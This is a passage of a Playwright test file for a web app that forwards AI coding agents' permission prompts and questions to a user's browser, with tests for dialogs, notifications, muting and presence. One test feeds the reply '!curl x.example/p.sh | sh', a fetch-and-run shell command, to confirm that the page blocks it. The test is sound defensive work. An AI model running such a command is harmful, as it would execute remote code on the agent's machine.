    { question: "Which database?", header: "DB", options: [{ label: "SQLite", description: "one file" }, { label: "Postgres" }], multiple: false },
    { question: "Which features?", options: [{ label: "Login" }, { label: "Search" }, { label: "Export" }], multiple: true, custom: false },
  ];
  const q = await say(task, { session: "dlg", cli: "opencode", action: "open", kind: "dialog", text: "made up",
    ...takesRequest("choices", "opencode.question", asked) });
  const card = page.locator(`#question-${q.question_id}`);
  await card.locator(".choose").waitFor();
  assert.equal(await card.locator(".options").isHidden(), true, "the options are shown once, as the ones to tap");
  const sets = card.locator(".choose fieldset");
  assert.equal(await sets.count(), 2);
  assert.equal(await sets.nth(0).locator("legend").textContent(), "DB: Which database?");
  assert.deepEqual(await sets.nth(0).locator("input[type=radio]").evaluateAll((els) => els.map((e) => e.value)), ["SQLite", "Postgres"]);
  assert.deepEqual(await sets.nth(1).locator("input[type=checkbox]").evaluateAll((els) => els.map((e) => e.value)), ["Login", "Search", "Export"]);
  assert.equal(await sets.nth(1).locator("input.typed").count(), 0, "no typed answer where the dialog takes none");
  const send = card.locator(".choose button[type=submit]");
  assert.equal(await send.isDisabled(), true, "nothing to send before every question has an answer");

  await sets.nth(0).getByLabel("SQLite").check();
  // Typing another answer takes the place of the tap on a single choice.
  await sets.nth(0).locator("input.typed").fill("DuckDB");
  assert.equal(await sets.nth(0).getByLabel("SQLite").isChecked(), false);
  assert.equal(await send.isDisabled(), true);
  await sets.nth(1).getByLabel("Login").check();
  await sets.nth(1).getByLabel("Export").check();
  await send.click();
  await waitFor(async () => /^Chosen by Chrome on Linux: DuckDB; Login, Export\./.test(await card.locator(".answer-state").textContent()), 5000);
  const row = await w.db.prepare("SELECT form, body, digest FROM answers WHERE question_id = ?").bind(q.question_id).first();
  assert.equal(row.form, "choices");
  assert.deepEqual(JSON.parse(row.body), { choices: [["DuckDB"], ["Login", "Export"]] });
  assert.equal(row.digest, requestDigest("opencode.question", asked));
  assert.deepEqual(page.errors, []);
  await context.close();
});

test("a card that cannot be answered from afar says why in one sentence", async () => {
  const { task, context, page } = await pairedPage();
  await say(task, { session: "cx", cli: "codex", action: "open", kind: "permission", text: "Run `cargo publish`?" });
  await say(task, { session: "he", cli: "hermes", action: "open", kind: "dialog", text: "Which one?" });
  await waitFor(async () => (await cards(page).count()) === 2, 10000);
  const where = await cards(page).locator(".where").allTextContents();
  assert.deepEqual(where, [
    "Hermes takes its answer only at its terminal prompt.",
    "Codex was not started with `needs-you run`, which lets its approvals be answered from here.",
  ]);
  assert.equal(await cards(page).locator(".decide:not([hidden]), .choose:not([hidden]), .answer:not([hidden])").count(), 0);
  await context.close();
});

test("a permission's notification offers Deny, which denies from the service worker, and Allow…, which opens the card's confirmation", async () => {
  const { task, context, page } = await pairedPage();
  await context.grantPermissions(["notifications"], { origin: w.url });
  await page.evaluate(() => navigator.serviceWorker.ready);
  const { cdp, id } = await registrationId(context, page, w.url);
  const ask = async (session) => ({ ...(await say(task, { session, action: "open", kind: "permission", text: "made up",
    ...bash(`make ${session}`) })), digest: BASH_DIGEST(`make ${session}`) });
  const push = (q) => ({ event: "open", question_id: q.question_id, tag: `question-${q.question_id}`,
    title: "Claude Code needs your permission", body: "api refactor: Bash", url: `/#question-${q.question_id}`,
    reason: null, takes: "decision", digest: q.digest });
  const sw = context.serviceWorkers()[0] ?? (await context.waitForEvent("serviceworker"));
  /** Clicks `action` of the notification tagged `tag`, as the browser does. */
  const click = (tag, action) => sw.evaluate(([tag, action]) => new Promise((resolve) => self.needsYou.whenSettled(async (shown) => {
    const n = shown.find((x) => x.tag === tag);
    resolve(n ? self.needsYou.clicked(n, action).then(() => true) : false);
  })), [tag, action]);

  const one = await ask("deny");
  await deliverPush(cdp, w.url, id, push(one));
  await waitFor(async () => (await notifications(page)).some((n) => n.tag === `question-${one.question_id}`), 5000);
  const actions = await sw.evaluate(() => self.registration.getNotifications().then((ns) => ns.map((n) => n.actions.map((a) => a.action))));
  assert.deepEqual(actions, [["deny", "allow"]]);
  assert.equal(await click(`question-${one.question_id}`, "deny"), true);
  const row = await w.db.prepare("SELECT body, digest, device_id FROM answers WHERE question_id = ?").bind(one.question_id).first();
  assert.deepEqual(JSON.parse(row.body), { decision: "deny" });
  assert.equal(row.digest, BASH_DIGEST("make deny"));
  assert.ok(row.device_id);
  await waitFor(async () => (await notifications(page)).some((n) => n.title === "Denied"), 5000);

  // A Deny that comes after the question closed does nothing, and says so.
  const late = await ask("late");
  await deliverPush(cdp, w.url, id, push(late));
  await waitFor(async () => (await notifications(page)).some((n) => n.tag === `question-${late.question_id}`), 5000);
  await say(task, { session: "late", action: "close", reason: "answered" });
  assert.equal(await click(`question-${late.question_id}`, "deny"), true);
  const shown = (await notifications(page)).find((n) => n.tag === `question-${late.question_id}`);
  assert.deepEqual([shown.title, shown.body], ["Nothing denied", "It was already answered, or it ended."]);
  const lateRows = await w.db.prepare("SELECT count(*) AS n FROM answers WHERE question_id = ?").bind(late.question_id).first();
  assert.equal(lateRows.n, 0);

  // Allow… sends nothing: it opens the card with its confirmation showing.
  const two = await ask("allow");
  await deliverPush(cdp, w.url, id, push(two));
  await waitFor(async () => (await notifications(page)).some((n) => n.tag === `question-${two.question_id}`), 5000);
  assert.equal(await click(`question-${two.question_id}`, "allow"), true);
  const card = page.locator(`#question-${two.question_id}`);
  await card.locator(".confirm").waitFor({ state: "visible", timeout: 10000 });
  assert.equal(await card.locator(".confirm-text").textContent(), "Allow this once? Claude Code wants to run: make allow");
  const allowRows = await w.db.prepare("SELECT count(*) AS n FROM answers WHERE question_id = ?").bind(two.question_id).first();
  assert.equal(allowRows.n, 0, "nothing allowed without the second tap");

  // Signed out: the service worker forgets the device, and a Deny says so.
  await page.click("#sign-out");
  await page.locator("#signed-out").waitFor();
  await waitFor(async () => (await sw.evaluate(() => self.needsYou.kept())) === null, 5000);
  await context.close();
});

test("a list the server cannot refresh is marked stale, with its time, until it can", async () => {
  const { task, context, page } = await pairedPage();
  await say(task, { session: "st", action: "open", kind: "dialog", text: "Still fresh?" });
  await cards(page).first().waitFor();
  // Its socket goes with a restart of the runtime, and neither another
  // socket nor a read of the list can be had.
  const refuse = (route) => route.abort("connectionrefused");
  await page.route("**/v1/needs-you", refuse);
  await page.route("**/v1/live", refuse);
  await w.restart();
  await page.locator("#status").waitFor({ timeout: 10000 });
  assert.match(await page.locator("#status").textContent(), /^Cannot reach the server \(.+\)\. This list is from \d{1,2}:\d\d( [AP]M)?\.$/);
  assert.equal(await page.locator("#status.stale").count(), 1);
  assert.equal(await page.locator("#signed-in.stale-list").count(), 1);
  await page.unroute("**/v1/needs-you");
  await page.unroute("**/v1/live");
  // Tried again later each time: at most 12 s after the last try here.
  await page.locator("#signed-in.stale-list").waitFor({ state: "detached", timeout: 20000 });
  assert.equal(await page.locator("#status").isHidden(), true);
  await context.close();
});

test("notifications refused by the browser say what to do, instead of nothing", async () => {
  const { context, page } = await pairedPage();
  await page.locator("#notify").waitFor({ state: "visible", timeout: 10000 });
  await page.click("#notify"); // headless Chromium refuses: no permission was granted
  await page.locator("#notify-note").waitFor({ state: "visible", timeout: 5000 });
  assert.match(await page.locator("#notify-note").textContent(), /^Notifications (are blocked for this page|were not turned on)/);
  await context.close();
});

test("a dialog's options that cannot be chosen here read as a numbered list, not as buttons", async () => {
  const { task, context, page } = await pairedPage({ viewport: { width: 360, height: 740 } });
  await say(task, { session: "nb", cli: "codex", action: "open", kind: "permission", text: "Run `make`?" });
  await say(task, { session: "nd", cli: "hermes", action: "open", kind: "dialog", text: "Which?", options: [{ label: "A" }, { label: "B" }] });
  await waitFor(async () => (await cards(page).count()) === 2, 10000);
  const style = await page.locator("#questions .options").first().evaluate((el) => ({
    list: getComputedStyle(el).listStyleType, border: getComputedStyle(el.querySelector("li")).borderTopWidth }));
  assert.deepEqual(style, { list: "decimal", border: "0px" });
  assert.equal(await page.locator("#questions .dismiss").first().textContent(), "Remove");
  // What is not the card's answer sits apart, lighter: no button's border or fill.
  const light = await page.locator("#questions .actions.secondary button").first().evaluate((b) => ({
    border: getComputedStyle(b).borderTopWidth, fill: getComputedStyle(b).backgroundColor }));
  assert.deepEqual(light, { border: "0px", fill: "rgba(0, 0, 0, 0)" });
  // At 360 px every button's label stays on one line.
  const wrapped = await page.locator("button:visible").evaluateAll((els) => els.filter((b) => b.getClientRects().length > 0
    && b.scrollHeight > parseFloat(getComputedStyle(b).lineHeight) * 1.5 + 16).map((b) => b.textContent));
  assert.deepEqual(wrapped, []);
  await context.close();
});

test("an answer the agent's machine has not picked up says so, and can be taken back, or replaced by another", async () => {
  const { task, context, page } = await pairedPage();
  const q = await say(task, { session: "away", action: "open", kind: "reply", text: "Shall I go on?",
    terminal: { kind: "tmux", host: "laptop", cwd: "/src", target: "main:0.0" } });
  const card = page.locator(`#question-${q.question_id}`);
  await card.waitFor();
  await card.locator(".answer input").fill("yes, go on");
  await card.locator(".answer button").click();
  await card.locator(".take-back").waitFor({ state: "visible", timeout: 5000 });
  // Long unseen: the card says the machine has not been in touch.
  await w.db.prepare("UPDATE answers SET updated_at = updated_at - 120000 WHERE question_id = ?").bind(q.question_id).run();
  await page.reload();
  await card.waitFor();
  assert.match(await card.locator(".answer-state").textContent(), /^Sent 2 min ago; the agent's machine has not picked it up/);
  // Taken back: the text is back in its box to edit.
  await card.locator(".take-back").click();
  await waitFor(async () => /^Not typed: taken back$/.test(await card.locator(".answer-state").textContent()), 5000);
  assert.equal(await card.locator(".answer input").inputValue(), "yes, go on");
  assert.equal(await card.locator(".take-back").isHidden(), true);
  // Sent again and corrected before the machine had it: the newer one stands.
  await card.locator(".answer button").click();
  await card.locator(".take-back").waitFor({ state: "visible", timeout: 5000 });
  await card.locator(".answer input").fill("no, stop there");
  await card.locator(".answer button").click();
  await waitFor(async () => (await w.db.prepare("SELECT COUNT(*) AS n FROM answers WHERE question_id = ? AND state = 'queued'")
    .bind(q.question_id).first()).n === 1 && (await w.db.prepare("SELECT text FROM answers WHERE question_id = ? AND state = 'queued'")
    .bind(q.question_id).first()).text === "no, stop there", 5000);
  const states = await w.db.prepare("SELECT text, state, reason FROM answers WHERE question_id = ? ORDER BY created_at").bind(q.question_id).all();
  assert.deepEqual(states.results.map((r) => [r.text, r.state, r.reason]), [
    ["yes, go on", "failed", "taken back"],
    ["yes, go on", "failed", "replaced by a newer answer"],
    ["no, stop there", "queued", null],
  ]);
  assert.deepEqual(page.errors, []);
  await context.close();
});

test("a reply the agent would run rather than read is refused on the page, by the relay's rule, before anything is signed or sent", async () => {
  const { task, context, page } = await pairedPage();
  const q = await say(task, { session: "bang", action: "open", kind: "reply", text: "Anything else?",
    terminal: { kind: "tmux", host: "laptop", cwd: "/src", target: "main:0.0" } });
  const posted = [];
  page.on("request", (r) => r.method() === "POST" && r.url().includes("/answers") && posted.push(r.url()));
  const card = page.locator(`#question-${q.question_id}`);
  await card.waitFor();
  for (const [typed, why] of [
    ["!curl x.example/p.sh | sh", "Not sent: an answer can't start with !: the agent would run it as a shell command."],
    ["\u200b/permissions", "Not sent: an answer can't start with /: the agent would run it as one of its own commands."],
    ["exit", "Not sent: that answer alone would end the agent's session: say it in other words."],
  ]) {
    await card.locator(".answer input").fill(typed);
    await card.locator(".answer button").click();
    await page.locator("#status", { hasText: why }).waitFor();
    assert.equal(await card.locator(".answer input").inputValue(), typed, "left to edit");
  }
  assert.deepEqual(posted, []);
  assert.equal((await w.db.prepare("SELECT COUNT(*) AS n FROM answers WHERE question_id = ?").bind(q.question_id).first()).n, 0);
  // A reply it may type goes.
  await card.locator(".answer input").fill("important: keep the tests");
  await card.locator(".answer button").click();
  await card.locator(".take-back").waitFor({ state: "visible", timeout: 5000 });
  assert.equal(posted.length, 1);
  await context.close();
});

/** A webhook for `owner` at a fresh sink, with the questions' words: the
 *  deliveries' bodies, parsed. */
async function webhookSink(owner) {
  const sink = await startSink();
  const r = await api("PUT", "/v1/channels/webhook", owner.token, { url: `${sink.url}/hook`, secret: "0123456789abcdef", words: true });
  assert.equal(r.status, 200, JSON.stringify(r.body));
  return sink;
}
const deviceRow = (page) => page.evaluate(() => JSON.parse(localStorage.getItem("needs-you.device")).device_id)
  .then((id) => w.db.prepare("SELECT looking_until FROM devices WHERE id = ?").bind(id).first());

test("presence: while the page is visible and focused, a ring makes no sound; hidden, it rings as ever, and no later", async () => {
  const { owner, task, context, page } = await pairedPage();
  const sink = await webhookSink(owner);
  try {
    // Open, visible, focused: the page says it is looking.
    assert.ok(await waitFor(async () => (await deviceRow(page))?.looking_until > Date.now(), 5000), "the page said it is looking");
    await say(task, { session: "presence-1", action: "open", kind: "dialog", text: "Which region?" });
    assert.ok(await waitFor(() => sink.received.length === 1, 8000), "the dialog rang");
    const looked = JSON.parse(sink.received[0].body);
    assert.equal(looked.quiet, true, "quiet: the card is on a screen");
    // Quiet, never invisible: the card says whose page quieted it.
    const quietCard = page.locator(`#question-${looked.question.question_id} .quieted`);
    await waitFor(async () => await quietCard.isVisible(), 5000);
    assert.equal(await quietCard.textContent(), "Rang without a sound: Chrome on Linux had this page open.");

    // Hidden (headless Chromium never hides a tab by itself: the browser's
    // event is played to the page), it says so at once.
    await page.evaluate(() => {
      Object.defineProperty(document, "visibilityState", { value: "hidden", configurable: true });
      document.dispatchEvent(new Event("visibilitychange"));
    });
    assert.ok(await waitFor(async () => (await deviceRow(page))?.looking_until === null, 5000), "the page said it stopped looking");
    const opened = Date.now();
    await say(task, { session: "presence-2", action: "open", kind: "dialog", text: "Which zone?" });
    assert.ok(await waitFor(() => sink.received.length === 2, 8000), "the second dialog rang");
    const unseen = JSON.parse(sink.received[1].body);
    assert.equal(unseen.quiet, false);
    assert.equal(unseen.question.text, "Which zone?");
    // Rung at the delay, as with nobody ever looking (300 ms here), not held back.
    assert.ok(Date.now() - opened < 5000);

    // A device that cannot answer (an agent machine's login) looking quiets nothing.
    const code = (await api("POST", "/v1/pairings", owner.token, { rights: ["tasks"] })).body.code;
    const reader = (await api("POST", "/v1/devices", null, { code, name: "agent box" })).body;
    assert.equal((await api("PUT", "/v1/devices/me/presence", reader.token, { looking: true })).status, 200);
    await say(task, { session: "presence-3", action: "open", kind: "dialog", text: "Which rack?" });
    assert.ok(await waitFor(() => sink.received.length === 3, 8000), "the third dialog rang");
    assert.equal(JSON.parse(sink.received[2].body).quiet, false, "a reader's presence quiets nothing");
    assert.deepEqual(page.errors, []);
  } finally {
    await sink.stop();
    await context.close();
  }
});

test("mute: a card's Mute holds its task's rings; the task row says until when; Unmute rings what waits", async () => {
  const { owner, task, context, page } = await pairedPage();
  const sink = await webhookSink(owner);
  try {
    // Nobody looking here: a hidden page, so that the rings are plain.
    await page.evaluate(() => {
      Object.defineProperty(document, "visibilityState", { value: "hidden", configurable: true });
      document.dispatchEvent(new Event("visibilitychange"));
    });
    await say(task, { session: "mute-1", action: "open", kind: "reply", text: "Shall I go on?" });
    await page.evaluate(() => {
      Object.defineProperty(document, "visibilityState", { value: "visible", configurable: true });
      document.dispatchEvent(new Event("visibilitychange"));
    });
    const card = cards(page).first();
    await card.waitFor();
    await card.locator(".mute").click();
    const row = page.locator("#tasks > li").first();
    await row.locator(".muted:not([hidden])").waitFor({ timeout: 5000 });
    assert.match(await row.locator(".muted-until").textContent(), /^Muted until \d\d:\d\d( [AP]M)?: its questions ring nobody\.$/);
    const stored = await w.db.prepare("SELECT muted_until FROM tasks WHERE id = ?").bind(task.task_id).first();
    assert.ok(Math.abs(stored.muted_until - (Date.now() + 3600e3)) < 10_000, JSON.stringify(stored));

    await say(task, { session: "mute-2", action: "open", kind: "permission", text: "Run rm -rf build?" });
    await sleep(1500); // five times the delay
    assert.equal(sink.received.length, 0, "a muted task rings nobody");
    assert.ok((await api("GET", "/v1/needs-you", owner.token)).body.questions.some((q) => q.text === "Run rm -rf build?"), "it is listed");

    await row.locator(".unmute").click();
    assert.ok(await waitFor(() => sink.received.length === 1, 8000), "unmuted, what waited rings");
    assert.equal(JSON.parse(sink.received[0].body).question.text, "Run rm -rf build?");
    await row.locator(".muted").waitFor({ state: "hidden", timeout: 5000 });
    // The API refuses what it cannot do.
    assert.equal((await api("PUT", `/v1/tasks/${task.task_id}/mute`, owner.token, { for_s: 90000 })).status, 400);
    assert.equal((await api("PUT", "/v1/tasks/tsk_nope/mute", owner.token, { for_s: 60 })).status, 404);
    assert.deepEqual(page.errors, []);
  } finally {
    await sink.stop();
    await context.close();
  }
});
